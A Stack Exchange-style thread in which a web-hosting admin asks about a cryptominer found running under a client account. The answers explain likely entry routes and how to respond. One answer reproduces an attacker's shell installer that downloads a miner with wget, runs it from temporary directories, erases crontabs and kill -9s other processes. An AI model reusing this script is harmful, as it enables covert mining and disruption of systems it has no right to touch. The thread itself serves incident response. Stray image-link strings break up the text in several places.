I run a dedicated server, where I noticed a high CPU usage recently, and checked the processes. It appears someone (mick account) was mining on my server. How is this possible? The process is below. I have suspended the account. What else would I need to do?

25516 mick  30  10  778m 6728 1132 S 740.5  0.2   8463:59 /tmp/sh64 -o stratum+tcp://multi1.wemineall.com:80 -u weedee.1 -p x --algo scrypt -B
  • check cronjobs for each user.
    – TPSCommented May 12, 2014 at 11:21
  • 5
    A bit more information on whether you created that account and who has access would be helpful. If you are the only one that should have access, then you are probably hacked -> reinstall from scratch.
    – Anthon
    Commented May 12, 2014 at 11:29
  • It is a web hosting server using Plesk control panel. There are several clients on the server with various domains etc.
    – Booboo
    Commented May 12, 2014 at 11:31
  • The clients don't have root access to the server, just ftp
    – Booboo
    Commented May 12, 2014 at 11:45
  • 2
    This looks like a Scrypt cryptocoin miner.
    – TheDoctor
    Commented May 12, 2014 at 21:36

3 Answers 3


If you are running a web server which allows server side scripting (php, ruby, etc), this is very easy to do.

All the user has to do is generate a script which downloads a file to /tmp/sh64 and then runs it. Web scripts commonly need to be able to execute external programs, and so this sort of activity is difficult to prevent.

If the mick account is the same account used to run the user's web scripts, then I would say that no, you are not hacked. Just a user abusing theiraccount.

If you want to prevent this behavior, there are a very few ways to prevent it. You can either disallow calling external programs. Or you can do something like kill long running programs (anything left running for more than 60 seconds for example).
Without knowing more details about your setup, the best course of action is difficult to determine.

  • 1
    How do I disallow calling external programs
    – Booboo
    Commented May 12, 2014 at 21:39
  • Your options vary. I'd post another question asking. Provide details of how your web server is setup, and what scripting language your clients are using. A simple chroot might work, but need the details.
    – phemmer
    Commented May 12, 2014 at 21:55

I had a similar problem. They exploited an outdated version of Nagios' NRPE agent to run a wget of a script which installed and configured the bitcoin miner from Sourceforge (the NRPE daemon had dont_blame_nrpe enabled). I haven't found anything whichwould indicate that the attempt on my machine was persistent.

This is the script that was used for the installation and setup of the Bitcoin miner:


myproc=`ps x|grep "$stratum -u $worker"|grep -v grep`
if [ -z "$myproc" ]
    system=`uname -a`
    i686=`echo $system|grep i686`
    if ! [ -z "$i686" ]



    dll=`wget -q -O $miner_path $url;tar zxvf $miner_path -C /var/tmp/;mv /var/tmp/minerd $miner_path;chmod +x $miner_path`
    spwn=`$miner_path -o $stratum -u $worker -p x --algo scrypt -B 2>/dev/null 1>/dev/null &`
    myproc=`ps x|grep "$stratum -u $worker"|grep -v grep`
    #Failed in /var/tmp/ trying in /dev/shm
    if [ -z "$myproc" ]
        #dll=`wget $url -O $miner_path2;chmod +x $miner_path2`
        dll=`wget -q -O $miner_path2 $url;tar zxvf $miner_path2 -C /tmp/;mv /tmp/minerd $miner_path2;chmod +x $miner_path2`
        spwn=`$miner_path2 -o $stratum -u $worker -p x --algo scrypt -B 2>/dev/null 1>/dev/null &`
    myproc=`ps x|grep "$stratum -u $worker"|grep -v grep`
    #Failed in /tmp/ trying in /tmp
    if [ -z "$myproc" ]
        dll=`wget -q -O $miner_path3 $url;tar zxvf $miner_path3 -C /dev/shm/;mv /dev/shm/minerd$miner_path3;chmod +x $miner_path3`
        spwn=`$miner_path3 -o $stratum -u $worker -p x --algo scrypt -B 2>/dev/null 1>/dev/null &`

myproc=`ps x|grep "$stratum -u $worker"|grep -v grep`
  crontab -r
 crontab -r
rm -rf /var/tmp/*.sh
kill -9 `ps x | grep -v nagios | grep -v nrpe | grep -v PID | grep -v $name | grep -v tester | grep -v grep | awk '{print $1}'

This script entirely ran as Nagios user, so it didn't need any root access.Your system definitely has been compromised or at worst hacked. There are other stories describing a similar miner being installed.

I would take the position that your system has been compromised and get anything critical off of it to start, so that you have it backed up if it isn't already being done so.


If you're curious how they got in, you'll need to get a complete list of what services (web, mysql, etc.) you have installed and see if there are any active exploits that would allow someone to gain elevated privileges.

I would start with any web enablements which are applications that are web based. It's typically the case that these applications can be buffer overflowed and access to modifying the web server's stack so that additional applications can be installed.

It is the case that these types of compromises can be isolated incidents, so simply removing the offending software and the malware can be enough to root it out without having to endure the time expense of doing a full recovery/setup of the system.

If this system was built using a VPS based image then I'd work with the provider, since patching it would seem to be in their best interests for all their customers.

Beyond just compromising the web stack

Everything on the box has to be scrutinized and is essentially untrustworthy, but I would take a bit of time to see if you can't figure out where the attackers are logging in from, if at all. They're possibly logging in using SSH accounts that were added to the system after compromising it.

This can be an arduous task taking many days to do analysis, especially if you cannot trust any of the tools on the box to assist in this endeavor. I would encourage anyone to take this time to understand how their system got compromised so that you can reduce the risk of it happening again in the future,at least through this particular vector.

If this isn't a production type of issue, this is actually a good learning opportunity to gain valuable insight into how systems can be compromised and access can be "leveraged up" by would be attackers.

Silver lining?

Since the system is being used for mining purposes it's likely that they used an automated scripting tool set, since attacking enough systems to setup zombie miners seems like it would take a lot of time. When tools such as these are used, they're usually shoddy in their construction, simply only looking to do the bare minimum to gain a foothold and then delivertheir payload (the mining software), so you may get lucky and get some additional insights into how they were able to get in.

  • 4
    Not necessarily. If the web server allows server side scripting, and the mick account is the user used to run the scripts, this can easily be done without hacking the server. Abuse, yes. Hack, no.
    – phemmer
    Commented May 12, 2014 at 12:55
  • @Patrick - very true, I've amended the A to reflect this. Thanks.
    – slm
    Commented May 12, 2014 at 13:36

You must log in to answer this question.

Not the answer you're looking for? Browse other questions tagged .